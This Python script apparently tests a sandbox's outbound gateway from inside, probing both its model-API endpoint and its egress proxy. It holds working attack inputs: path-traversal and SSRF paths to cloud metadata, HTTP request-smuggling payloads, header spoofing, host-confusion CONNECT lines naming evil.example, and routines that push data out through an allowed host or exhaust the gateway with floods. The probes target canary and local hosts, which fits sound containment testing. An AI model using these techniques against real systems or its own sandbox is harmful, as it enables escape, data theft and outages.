"""Tries against the one way out, from inside: door.py KIND TOKEN."""

import array
import http.client
import json
import os
import socket
import sys
import threading
import time
from urllib.parse import urlsplit

from probing import TARGETS, probe, say

CHAT = "/model/v1/chat/completions"
TOKEN = os.environ["REEVE_TOKEN"]
API = urlsplit(os.environ["REEVE_URL_MODEL"]).port
PROXY = urlsplit(os.environ.get("http_proxy", "http://127.0.0.1:3128")).port
CANARY = "127.0.0.1:%d" % TARGETS["tcp"]


def exchange(port, data, seconds=10):
    """Say something on a connection of its own; returns all that is answered until it is closed or quiet."""
    with socket.create_connection(("127.0.0.1", port), seconds) as connection:
        connection.sendall(data)
        answer = b""
        try:
            while True:
                piece = connection.recv(65536)
                if not piece:
                    return answer
                answer += piece
        except socket.timeout:
            return answer


def first_line(answer):
    return answer.split(b"\r\n", 1)[0].decode("latin-1") or "closed"


def statuses(answer):
    """The status of every answer on a connection: two mean that two requests were seen."""
    return " ".join(line.split()[1] for line in answer.decode("latin-1").splitlines() if line.startswith("HTTP/1."))


def question(model="plain", **fields):
    return json.dumps({"model": model, "messages": [], **fields}).encode()


def post(path=CHAT, headers="", body=None, token=TOKEN, host="127.0.0.1", version="1.1"):
    """One request as bytes; `headers` are whole lines."""
    body = question() if body is None else body
    lines = (
        "POST %s HTTP/%s\r\nHost: %s\r\nAuthorization: Bearer %s\r\n%sContent-Length: %d\r\nConnection: close\r\n\r\n"
    )
    return (lines % (path, version, host, token, headers, len(body))).encode("latin-1") + body


def ask(model, **fields):
    """A whole answer of the model, as an honest program asks."""
    connection = http.client.HTTPConnection("127.0.0.1", API, timeout=60)
    try:
        connection.request("POST", CHAT, question(model, **fields), {"Authorization": "Bearer " + TOKEN})
        answer = connection.getresponse()
        return answer.status, answer.read().decode("utf-8", "replace")
    finally:
        connection.close()


# ---------------------------------------------------------------- the door to models

PATHS = (
    "/other/v1/messages", "/model/../other/v1/messages", "/model/%2e%2e/other/v1/messages", "//other/v1/messages",
    "/model//other/v1/messages", "/MODEL/v1/chat/completions", "/model/v1/files", CHAT + "/../../files",
    CHAT + "%2f..%2ffiles", CHAT + "%00", CHAT + ";/v1/files", CHAT + "#/v1/files", "/model\\v1\\files",
    "/model/v1/models/../files", "/model/v1/models/..%2f..%2ffiles", "/model/@169.254.169.254/v1/chat/completions",
    "/model/v1/models/http://169.254.169.254/", "/model@169.254.169.254/v1/chat/completions",
    "http://169.254.169.254/latest/meta-data/", "http://169.254.169.254" + CHAT, "http://" + CANARY + "/steal",
    "https://" + CANARY + "/model/../steal", "//" + CANARY + "/steal", "/" + CANARY + "/steal", "*", CANARY,
    "/model/v1/organization/admin_api_keys", "/model/v1/responses/resp_1", "/model/v1/fine_tuning/jobs",
)  # fmt: skip


def paths():
    for path in PATHS:
        probe("path " + path, lambda path=path: statuses(exchange(API, post(path))) or "closed")
    for method in ("CONNECT", "TRACE", "OPTIONS", "PUT", "DELETE", "PROPFIND", "CHAT"):
        probe(
            "method " + method,
            lambda method=method: statuses(exchange(API, post().replace(b"POST", method.encode(), 1))) or "closed",
        )
    probe(
        "connect through the models", lambda: statuses(exchange(API, b"CONNECT %s HTTP/1.1\r\n\r\n" % CANARY.encode()))
    )


HEADERS = (
    "X-Forwarded-Host: {0}", "X-Forwarded-For: 127.0.0.1", "X-Forwarded-Proto: http", "Forwarded: host={0}", "X-Host: {0}",
    "X-Original-Host: {0}", "X-Original-URL: /v1/files", "X-Rewrite-URL: /v1/files", "X-HTTP-Method-Override: DELETE",
    "X-HTTP-Method: DELETE", "X-Method-Override: DELETE", "X-Real-IP: 127.0.0.1", "Proxy-Connection: keep-alive",
    "X-Proxy-URL: http://{0}/", "X-Backend-Host: {0}", "Via: 1.1 {0}", "Upgrade: websocket", "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABk",
    "TE: trailers", "Trailer: Authorization", "OpenAI-Organization: org-mine", "x-api-key: sk-mine", "api-key: sk-mine",
    "Cookie: session=mine", "Proxy-Authorization: Basic bWluZQ==", "X-Amz-Security-Token: mine", "Connection: Host, Authorization",
)  # fmt: skip


def headers():
    """Each reaches the provider as an honest question does, or not at all; what it saw is asked there."""
    for header in HEADERS:
        line = header.format(CANARY)
        probe("header " + header, lambda line=line: statuses(exchange(API, post(headers=line + "\r\n"))))
    probe("host of another", lambda: statuses(exchange(API, post(host=CANARY))))
    probe("two hosts", lambda: statuses(exchange(API, post(headers="Host: {}\r\n".format(CANARY)))) or "closed")


def chunked(body, *, trailer=b""):
    return b"%x\r\n%s\r\n0\r\n%s\r\n" % (len(body), body, trailer)


def smuggled():
    """A second request inside of the first, where two readers might disagree about its end."""
    hidden = b"POST /v1/files HTTP/1.1\r\nHost: %s\r\nContent-Length: 5\r\n\r\nstole" % CANARY.encode()
    body, head = question(), "POST {} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {}\r\n".format(CHAT, TOKEN)
    ends = {
        "length and chunks": ("Content-Length: %d\r\nTransfer-Encoding: chunked\r\n" % len(body), chunked(body) + hidden),
        "chunks and length": ("Transfer-Encoding: chunked\r\nContent-Length: 4\r\n", chunked(body) + hidden),
        "two lengths": ("Content-Length: %d\r\nContent-Length: 4\r\n" % len(body), body + hidden),
        "a list of lengths": ("Content-Length: %d, 4\r\n" % len(body), body + hidden),
        "a length with a sign": ("Content-Length: +%d\r\n" % len(body), body + hidden),
        "chunks by another name": ("Transfer-Encoding: xchunked\r\n", chunked(body) + hidden),
        "chunks twice": ("Transfer-Encoding: chunked, identity\r\n", chunked(body) + hidden),
        "chunks after a space": ("Transfer-Encoding : chunked\r\n", chunked(body) + hidden),
        "chunks on a folded line": ("X: y\r\n Transfer-Encoding: chunked\r\n", chunked(body) + hidden),
        "chunks after a tab": ("Transfer-Encoding:\tchunked\r\n", chunked(body) + hidden),
        "a line without its return": ("X: y\nTransfer-Encoding: chunked\n", chunked(body) + hidden),
        "a size with an extension": ("Transfer-Encoding: chunked\r\n", b"%x;a=\r\n" % len(body) + body + b"\r\n0\r\n\r\n" + hidden),
        "a size with a sign": ("Transfer-Encoding: chunked\r\n", b"+%x\r\n%s\r\n0\r\n\r\n" % (len(body), body) + hidden),
        "trailers": ("Transfer-Encoding: chunked\r\nTrailer: X-Api-Key\r\n",
                     chunked(body, trailer=b"X-Api-Key: mine\r\nHost: %s\r\n" % CANARY.encode())),
        "a request behind the first": ("Content-Length: %d\r\n" % len(body), body + hidden),
    }  # fmt: skip
    for name, (lines, rest) in ends.items():
        data = (head + lines + "\r\n").encode() + rest
        probe("smuggled " + name, lambda data=data: statuses(exchange(API, data, 2)) or "closed")


def stolen_key():
    """A provider that says the key in its errors, its heads and its redirections."""
    for model in ("leaks-400", "leaks-401", "leaks-403", "leaks-500", "leaks-302"):
        probe("key " + model, lambda model=model: repr(exchange(API, post(body=question(model)))))
    for path in ("/model/v1/models", "/model/v1/models/leaks"):
        get = "GET {} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {}\r\nConnection: close\r\n\r\n".format(path, TOKEN)
        probe("key " + path, lambda get=get: first_line(exchange(API, get.encode())))
    for number in range(4):  # and in what the gateway itself says about nonsense
        data = (b"\0" * 100, b"GET / HTTP/9.9\r\n\r\n", b"GET /\xff\xfe HTTP/1.1\r\n\r\n", post("/model/v1/nothing"))[
            number
        ]
        probe("key nonsense %d" % number, lambda data=data: repr(exchange(API, data, 2)))


def redirected():
    probe("redirected", lambda: statuses(exchange(API, post(body=question("redirect")))))


def reaching():
    """The provider itself is to fetch, or to post, what the attempt names."""
    away = "http://" + CANARY + "/steal"
    for name, fields in {
        "image": {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": away}}]}]},
        "mcp": {"tools": [{"type": "mcp", "server_url": away}]},
        "file": {"input": [{"type": "input_file", "file_url": away}]},
        "twice": None,  # a field that stands twice, of which each reader may take another
    }.items():
        body = question(**fields) if fields else b'{"model": "plain", "model": "dear", "messages": []}'
        probe("provider " + name, lambda body=body: statuses(exchange(API, post(body=body))))


def other_tokens():
    for name, token in {
        "of another attempt": TARGETS["other_token"], "none": "", "half": TOKEN[: len(TOKEN) // 2], "longer": TOKEN + "x",
        "in capitals": TOKEN.swapcase(), "everything": "*",
    }.items():  # fmt: skip
        probe("token " + name, lambda token=token: statuses(exchange(API, post(token=token))))


def repository():
    """Post far more than what is allowed, through questions that are paid for and through those that cost nothing."""
    most = os.urandom(1 << 20).hex()
    free = "/model/v1/responses/input_tokens"
    for number in range(12):
        body = question(input=most * 4)
        probe("posted free %d" % number, lambda body=body: statuses(exchange(API, post(free, body=body), 30)))
    while True:  # until whoever watches the budget ends it
        probe("posted", lambda: statuses(exchange(API, post(body=question(messages=[{"content": most}])))))
        time.sleep(0.2)


def descriptors():
    """Files that belong to the door or to its runner, and our own given to it."""
    kinds = []
    for pid in (name for name in os.listdir("/proc") if name.isdigit()):
        try:
            kinds += [
                os.readlink("/proc/{}/fd/{}".format(pid, fd)).split(":")[0]
                for fd in os.listdir("/proc/{}/fd".format(pid))
            ]
        except OSError:
            continue
    say("sockets of every process", kinds.count("socket"))
    for path in TARGETS["gateway"]:
        probe("gateway " + path, lambda path=path: give(socket.AF_UNIX, path))
    probe("given to the door", lambda: give(socket.AF_INET, ("127.0.0.1", API)))
    for port in (API, PROXY):
        probe("its place %d" % port, take_place, "127.0.0.1", port)
        probe("its place on every address %d" % port, take_place, "0.0.0.0", port)
    mine = {int(name) for name in os.listdir("/proc") if name.isdigit()}
    found = 0
    for pid in range(1, 1 << 16):
        if pid not in mine:
            try:
                os.kill(pid, 0)
                found += 1
            except OSError:
                continue
    say("processes that can be signalled", found)


def give(family, address):
    """Hand over what a runner hands over: listening sockets, and the name of another attempt."""
    with socket.socket(family) as plain, socket.socket() as listening:
        plain.settimeout(5)
        plain.connect(address)
        listening.bind(("127.0.0.1", 0))
        listening.listen()
        rights = (socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [listening.fileno()] * 2))
        plain.sendmsg([b'{"attempt": "polite.1"}\n'], [rights])
        plain.shutdown(socket.SHUT_WR)
        return statuses(plain.recv(4000)) or "closed"


def take_place(address, port):
    with socket.socket() as plain:
        plain.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        plain.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        plain.bind((address, port))
        plain.listen()
    return "listening"


# ---------------------------------------------------------------- the door to other hosts

NAMES = (
    "169.254.169.254:80", "169.254.169.254:443", "[fd00:ec2::254]:80", "metadata.google.internal:80", "100.100.100.200:80",
    CANARY, "localhost:%d" % TARGETS["tcp"], "[::1]:%d" % TARGETS["tcp"], "[::ffff:127.0.0.1]:%d" % TARGETS["tcp"], "0:80",
    "2130706433:80", "0x7f.1:80", "127.1:80", "0177.0.0.1:80", "evil.example:443", "listed.example:80", "listed.example:22",
    "a.listed.example:443", "listed.example.evil.example:443", "listed.example.:443", "listed.example@evil.example:443",
    "evil.example#listed.example:443", "listed.example:443@evil.example:443", "listed.example\0.evil.example:443",
    "listed.example%2eevil.example:443", "listed.example:443:443", "listed.example :443",
    "listed\u0131.example:443", "listed.example:44\u0663", "http://listed.example:443",
)  # fmt: skip
INSIDE = ("meta.example", "home.example", "six.example", "mapped.example", "many.example", "private.example", "own.example",
          "carried.example", "rebinding.example", "rebinding.example", "rebinding.example")  # fmt: skip


def hosts():
    for name in NAMES:
        head = ("CONNECT {} HTTP/1.1\r\nHost: listed.example:443\r\n\r\n".format(name)).encode("utf-8")
        probe("name " + name, lambda head=head: first_line(exchange(PROXY, head)))
    for number, name in enumerate(INSIDE):
        head = ("CONNECT {}:443 HTTP/1.1\r\n\r\n".format(name)).encode()
        probe("inside %d %s" % (number, name), lambda head=head: first_line(exchange(PROXY, head, 40)))
    for target in (
        "http://169.254.169.254/latest/meta-data/",
        "http://{}/steal".format(CANARY),
        "http://listed.example/",
        "/",
    ):
        head = ("GET {} HTTP/1.1\r\nHost: listed.example\r\n\r\n".format(target)).encode()
        probe("plain " + target, lambda head=head: first_line(exchange(PROXY, head)))
    probe("socks", lambda: first_line(exchange(PROXY, b"\5\1\0" + b"\r\n\r\n")))
    probe("header of 1 MB", lambda: first_line(exchange(PROXY, b"CONNECT x:1 HTTP/1.1\r\nX: " + b"x" * (1 << 20))))


def carry():
    """Carry the repository out through a host that may be reached: in one piece, then in many small ones."""
    sent = 0
    connection = socket.create_connection(("127.0.0.1", PROXY), 20)
    connection.sendall(b"CONNECT listed.example:443 HTTP/1.1\r\n\r\n")
    say("carried to", first_line(connection.recv(4000)))
    try:
        for _ in range(64):
            connection.sendall(os.urandom(1 << 16))
            sent += 1 << 16
            time.sleep(0.005)
    except OSError:
        pass
    connection.close()
    say("carried", "cut off" if sent < 64 << 16 else "everything")
    for number in range(8):
        data = b"CONNECT listed.example:443 HTTP/1.1\r\n\r\n" + b"x" * 20000
        probe("carried again %d" % number, lambda data=data: first_line(exchange(PROXY, data)))


# ---------------------------------------------------------------- exhaustion, and somebody who wants to go on


def greedy():
    while json.loads(ask("greedy-waits")[1])["word"] != "there":  # the other one is at work
        time.sleep(0.05)
    other_tokens()
    floods()
    held = [hold(API, "POST {} HTTP/1.1\r\nX: ".format(CHAT)) for _ in range(400)]
    held += [hold(PROXY, "CONNECT listed.example:443 HTTP/1.1\r\nX: ") for _ in range(400)]
    say("held", sum(each is not None for each in held))
    threading.Thread(target=drip, args=([each for each in held if each],), daemon=True).start()


def floods():
    head = "POST {} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {}\r\n".format(CHAT, TOKEN)
    chunks = head + "Transfer-Encoding: chunked\r\n\r\n"
    for name, data in {
        "a header of 8 MB": (head + "X: ").encode() + b"x" * (8 << 20),
        "100000 headers": (head + "X: y\r\n" * 100_000).encode(),
        "a length of 10 GB": (head + "Content-Length: 10737418240\r\n\r\n").encode() + b"x" * 1000,
        "a line without an end": b"GET /" + b"x" * (8 << 20),
        "an extension without an end": chunks.encode() + b"5;" + b"x" * (8 << 20),
        "a size without an end": chunks.encode() + b"0" * (1 << 20),
    }.items():
        probe("flood " + name, lambda data=data: statuses(exchange(API, data, 3)) or "closed")
    body = b"400000\r\n" + b" " * (4 << 20) + b"\r\n"
    threads = [
        threading.Thread(target=probe, args=("flood of chunks %d" % n, flood, chunks.encode(), body)) for n in range(4)
    ]
    for each in threads:
        each.start()
    for each in threads:
        each.join()


def flood(head, piece):
    with socket.create_connection(("127.0.0.1", API), 20) as connection:
        connection.sendall(head)
        for _ in range(20):
            connection.sendall(piece)
        return statuses(connection.recv(4000)) or "closed"


def hold(port, beginning):
    """A connection on which a head has begun that never ends."""
    try:
        connection = socket.create_connection(("127.0.0.1", port), 10)
        connection.sendall(beginning.encode())
    except OSError:
        return None
    return connection


def drip(held):
    while True:
        for each in held:
            try:
                each.send(b"x")
            except OSError:
                continue
        time.sleep(0.05)


def exhaust():
    """Hold everything there is, and keep one connection to ask how the other one does."""
    line = http.client.HTTPConnection("127.0.0.1", API, timeout=60)

    def say_on_line(model):
        line.request("POST", CHAT, question(model), {"Authorization": "Bearer " + TOKEN})
        return json.loads(line.getresponse().read())["word"]

    say_on_line("greedy-waits")
    greedy()
    say_on_line("greedy-holds")
    while say_on_line("greedy-waits") != "enough":
        time.sleep(0.05)
    say("exhausted", "until the other one had enough answers")


def polite():
    answers = 0
    while True:
        status, said = ask("polite")
        answers += status == 200
        if status != 200 or json.loads(said)["word"] == "enough":
            break
        time.sleep(0.02)
    say("answers", answers)
    say("last", status)


KINDS = {
    "smuggle": (paths, headers, smuggled, redirected, reaching), "keys": (stolen_key, descriptors), "post": (repository,),
    "hosts": (hosts, carry), "hosts-again": (carry,), "greedy": (exhaust,), "polite": (polite,),
}  # fmt: skip
for each in KINDS[sys.argv[1]]:
    each()
